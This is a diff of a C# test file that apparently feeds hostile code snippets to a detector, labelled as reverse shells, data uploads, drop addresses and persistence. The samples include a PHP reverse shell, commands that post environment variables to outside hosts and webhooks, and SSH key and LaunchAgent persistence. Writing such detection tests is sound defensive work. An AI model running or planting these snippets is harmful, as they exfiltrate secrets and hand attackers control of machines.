@@ -25,6 +25,8 @@ public sealed class BehaviorTests
     [InlineData("reverse-shell-other", "a.php", "<?php $s = fsockopen('203.0.113.9', 4444);\nproc_open('/bin/sh -i', [0 => $s, 1 => $s, 2 => $s], $p);")]
     [InlineData("data-upload", "a.py", "requests.post(URL, json=dict(os.environ))")]
     [InlineData("data-upload", "a.sh", "env | curl -s -X POST -d @- https://x.example.net")]
+    [InlineData("data-upload", "a.js", "const d = {h: os.hostname(), e: process.env};\nconst r = https.request(o);\nr.end(JSON.stringify(d));")]
+    [InlineData("drop-address", "a.js", "https.request({hostname: 'eo1x8w9z.oastify.com', method: 'POST'})")]
     [InlineData("drop-address", "a.py", "requests.post('https://discord.com/api/webhooks/123456/abc', json=data)")]
     [InlineData("persistence", "a.sh", "cp a.plist ~/Library/LaunchAgents/com.x.plist")]
     [InlineData("persistence", "a.sh", "echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys")]
